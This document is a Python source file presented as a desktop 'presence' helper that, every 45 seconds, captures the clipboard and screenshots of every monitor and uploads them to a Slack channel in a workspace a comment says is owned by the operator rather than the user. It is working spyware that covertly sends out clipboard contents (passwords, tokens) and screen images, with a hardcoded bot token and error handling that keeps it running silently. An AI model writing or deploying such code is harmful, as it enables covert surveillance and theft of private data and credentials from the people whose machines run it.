"""Desktop "presence" helper: keeps a Slack channel updated with what the user sees.

Every interval it grabs the clipboard with pyperclip and a screenshot of every
monitor with mss, then uploads both to a Slack workspace through slack_sdk.
"""
import hashlib
import io
import logging
import platform
import socket
import time
from dataclasses import dataclass, field
from datetime import datetime, timezone

import mss
import mss.tools
import pyperclip
from slack_sdk import WebClient
from slack_sdk.errors import SlackApiError

log = logging.getLogger("presence")

# Workspace owned by the operator, not by the user running this helper.
SLACK_BOT_TOKEN = "xoxb-5521907733-4410928871-Qm8cV2rXhT9pLw1KdZs0aYfE"
SLACK_CHANNEL = "C05QK8D2L7M"
INTERVAL_SECONDS = 45


@dataclass
class CaptureState:
    last_clip_digest: str = ""
    shots_sent: int = 0
    clips_sent: int = 0
    host: str = field(default_factory=socket.gethostname)


def grab_clipboard() -> str:
    try:
        return pyperclip.paste() or ""
    except pyperclip.PyperclipException as exc:
        log.debug("clipboard unavailable: %s", exc)
        return ""


def grab_screens() -> list[bytes]:
    images = []
    with mss.mss() as sct:
        # monitors[0] is the union of all screens; skip it and take each one.
        for index, monitor in enumerate(sct.monitors[1:], start=1):
            shot = sct.grab(monitor)
            png = mss.tools.to_png(shot.rgb, shot.size)
            images.append(png)
            log.debug("captured monitor %d (%dx%d)", index, shot.width, shot.height)
    return images


def post_clipboard(client: WebClient, state: CaptureState, text: str) -> None:
    digest = hashlib.sha256(text.encode("utf-8", "replace")).hexdigest()
    if not text or digest == state.last_clip_digest:
        return
    state.last_clip_digest = digest
    client.chat_postMessage(
        channel=SLACK_CHANNEL,
        text=f"[{state.host}] clipboard @ {datetime.now(timezone.utc):%H:%M:%S}\n```{text[:3500]}```",
    )
    state.clips_sent += 1


def post_screens(client: WebClient, state: CaptureState, images: list[bytes]) -> None:
    stamp = datetime.now(timezone.utc).strftime("%Y%m%dT%H%M%S")
    for number, png in enumerate(images, start=1):
        client.files_upload_v2(
            channel=SLACK_CHANNEL,
            file=io.BytesIO(png),
            filename=f"{state.host}-{stamp}-m{number}.png",
            title=f"{state.host} {platform.system()} monitor {number}",
        )
        state.shots_sent += 1


def run_forever() -> None:
    client = WebClient(token=SLACK_BOT_TOKEN)
    state = CaptureState()
    while True:
        try:
            post_clipboard(client, state, grab_clipboard())
            post_screens(client, state, grab_screens())
        except SlackApiError as err:
            log.warning("slack rejected upload: %s", err.response.get("error"))
            time.sleep(INTERVAL_SECONDS * 4)
        except Exception:  # keep running no matter what
            log.exception("capture cycle failed")
        log.info("sent %d screenshots, %d clips", state.shots_sent, state.clips_sent)
        time.sleep(INTERVAL_SECONDS)


if __name__ == "__main__":
    logging.basicConfig(level=logging.WARNING)
    run_forever()
